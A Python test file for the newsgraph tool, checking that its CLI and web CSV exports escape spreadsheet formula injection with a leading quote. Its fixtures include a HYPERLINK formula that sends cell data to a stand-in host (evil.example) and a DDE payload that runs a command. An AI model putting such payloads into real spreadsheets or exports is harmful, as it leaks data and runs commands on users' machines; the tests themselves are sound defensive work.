"""CSV injection: every CSV newsgraph writes (the web's exports, `query`, `stories`,
`export`) gives a cell a spreadsheet would run as a formula a leading quote, and leaves
plain numbers alone."""

from __future__ import annotations

import csv
import io

import pytest

from conftest import checked_analyze
from newsgraph.cli import main
from newsgraph.csvsafe import safe_cell, writer
from newsgraph.stories.store import open_store

TEXT = ("Turkish troops shelled Afrin on Monday, killing about 300 fighters, the Syrian "
        "Observatory for Human Rights said.")
TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
OUTLET = "+cmd|' /C calc'!A0"


def test_formula_cells_are_quoted_and_numbers_kept():
    for value in ("=1+1", "+cmd|x", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "=", "+ 1"):
        assert safe_cell(value) == "'" + value
    for value in ("-3", "+1.5", "-2e-3", ".5", "plain", "a=b", "", None, -3, 2.5, "'=x"):
        assert safe_cell(value) == value
    buffer = io.StringIO()
    writer(buffer).writerows([["=a", "-1", 7], ["b", "@c", None]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=a", "-1", "7"],
                                                                ["b", "'@c", ""]]


@pytest.fixture(scope="module")
def store_path(tmp_path_factory, pipeline):
    path = tmp_path_factory.mktemp("csvsafe") / "store.db"
    with open_store(path) as store:
        store.add(checked_analyze(TEXT, pipeline, id="@SUM(1+1)", title=TITLE, outlet=OUTLET,
                                  published="2018-01-22"))
    return path


def _cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def _neutralised(cells: set[str]) -> None:
    assert TITLE not in cells and OUTLET not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
                or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())]


def test_query_and_stories_csv(store_path, capsys):
    assert main(["query", "search", "Afrin", "--db", str(store_path), "--format", "csv"]) == 0
    cells = _cells(capsys.readouterr().out)
    _neutralised(cells)
    assert "'" + OUTLET in cells and "'@SUM(1+1)" in cells
    assert main(["stories", "--db", str(store_path), "--format", "csv"]) == 0
    cells = _cells(capsys.readouterr().out)
    _neutralised(cells)
    assert "'" + OUTLET in cells or "'" + TITLE in cells


def test_export_csv_tables(store_path, tmp_path):
    assert main(["export", "--db", str(store_path), "--format", "csv", "-o",
                 str(tmp_path / "tables")]) == 0
    documents = (tmp_path / "tables" / "documents.csv").read_text(encoding="utf-8")
    assert {"'" + TITLE, "'" + OUTLET, "'@SUM(1+1)"} <= _cells(documents)
    for table in (tmp_path / "tables").glob("*.csv"):
        _neutralised(_cells(table.read_text(encoding="utf-8")))


def test_web_csv_exports(store_path):
    pytest.importorskip("fastapi")
    from fastapi.testclient import TestClient

    from newsgraph.web import create_app

    client = TestClient(create_app(store_path))
    response = client.get("/api/documents", params={"format": "csv"})
    assert response.headers["content-type"].startswith("text/csv")
    _neutralised(_cells(response.text))
    assert {"'" + TITLE, "'" + OUTLET} <= _cells(response.text)
    search = client.get("/api/search", params={"q": "troops", "format": "csv"})
    _neutralised(_cells(search.text))
